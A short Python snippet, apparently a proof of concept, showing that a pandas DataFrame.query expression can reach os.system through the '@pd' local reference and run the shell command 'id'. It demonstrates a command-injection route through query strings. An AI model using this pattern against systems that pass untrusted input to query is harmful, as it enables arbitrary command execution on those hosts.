# A query reaches a module by a local name.
import pandas as pd

df = pd.DataFrame({"a": [1]})
df.query("@pd.io.common.os.system('id') == 0")
